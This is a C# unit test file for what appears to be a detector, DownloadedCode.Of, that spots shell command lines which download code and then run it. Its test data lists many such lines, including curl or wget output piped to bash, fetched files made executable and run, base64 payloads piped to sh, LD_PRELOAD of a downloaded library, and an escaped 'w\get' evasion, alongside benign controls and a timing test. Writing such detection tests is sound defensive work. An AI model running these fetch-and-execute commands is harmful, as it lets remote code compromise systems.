using System.Diagnostics;
using Crowsnest.Core.Rules;

namespace Crowsnest.Core.Tests.Rules;

/// <summary>Command lines followed from the download to the run.</summary>
public sealed class DownloadedCodeTests
{
    [Theory]
    [InlineData("sh -c curl -s http://192.0.2.1/a | bash", "-")]
    [InlineData("sh -c curl -s http://192.0.2.1/a 2>&1 | sudo bash -s x", "-")]
    [InlineData("bash -c 'bash <(curl -s http://192.0.2.1/a)'", "-")]
    [InlineData("sh -c 'echo eA== | base64 -d | sh'", "-")]
    [InlineData("sh -c wget http://192.0.2.1/a -O/tmp/a;chmod +x /tmp/a;/tmp/a", "/tmp/a")]
    [InlineData("sh -c wget -q http://192.0.2.1/a; sh a", "a")]
    [InlineData("sh -c curl http://192.0.2.1/a > /tmp/a && /tmp/a", "/tmp/a")]
    [InlineData("sh -c 'curl http://192.0.2.1/a | tee /tmp/a >/dev/null; timeout 60 /tmp/a'", "/tmp/a")]
    [InlineData("sh -c w\\get http://192.0.2.1/a -O ${D}; chmod +x ${D}; ${D}", "$D")]
    [InlineData("sh -c cd /tmp; wget http://192.0.2.1/x.tar.gz; tar xzf x.tar.gz; cd x; ./m", "")]
    [InlineData("sh -c wget http://192.0.2.1/x.tgz -O /tmp/x.tgz && tar xf /tmp/x.tgz -C /tmp && /tmp/x/m", "/tmp/x/m")]
    [InlineData("sh -c curl -so /tmp/p.so http://192.0.2.1/p; LD_PRELOAD=/tmp/p.so ls", "LD_PRELOAD=/tmp/p.so")]
    [InlineData("sh -c curl -so /tmp/p http://192.0.2.1/p; /lib64/ld-linux-x86-64.so.2 /tmp/p", "/tmp/p")]
    [InlineData("sh -c curl -so /tmp/page.html http://a.example.org/; cat /tmp/page.html", "")]
    [InlineData("sh -c chmod +x /app/run; /app/run", "")]
    [InlineData("sh -c curl -s http://a.example.org/health && exec /app/run", "")]
    [InlineData("sh -c curl -s http://a.example.org/x | jq . | grep -o ok", "")]
    [InlineData("curl", "")]
    [InlineData("", "")]
    public void Of_ACommandLine_IsWhatItRunsOfWhatItFetched(string line, string expected) => Assert.Equal(expected, DownloadedCode.Of(line));

    [Fact]
    public void Of_LongLines_TakesLinearTime()
    {
        Stopwatch watch = Stopwatch.StartNew();
        foreach (string part in new[] { "curl ", "${", "'/", "eval ", "urlopen(\"/", "> ", ";&|", "-o " })
        {
            DownloadedCode.Of(string.Concat("curl urllib ", string.Concat(Enumerable.Repeat(part, 60_000 / part.Length))));
        }

        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(20), watch.Elapsed.ToString());
    }
}
